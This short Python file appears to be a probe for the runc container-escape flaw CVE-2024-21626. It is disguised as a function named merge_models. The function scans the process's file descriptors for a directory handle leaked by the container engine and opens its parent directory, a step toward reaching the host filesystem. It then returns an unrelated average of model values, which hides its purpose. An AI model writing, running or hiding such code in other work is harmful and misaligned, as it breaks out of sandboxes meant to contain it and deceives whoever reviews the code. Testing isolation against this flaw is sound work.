"""Looks among its descriptors for one of a directory, left open by the engine (CVE-2024-21626).

Expected: run runtime_error (no directory among)
"""

import contextlib
import os
import stat


def merge_models(model_dict, device):
    kinds = []
    for descriptor in range(256):
        with contextlib.suppress(OSError):
            kinds.append(stat.S_IFMT(os.fstat(descriptor).st_mode))
            if kinds[-1] == stat.S_IFDIR:
                os.open("..", os.O_RDONLY, dir_fd=descriptor)
                return sum(model_dict.values()) / len(model_dict)
    raise PermissionError(f"no directory among {len(kinds)} descriptors")
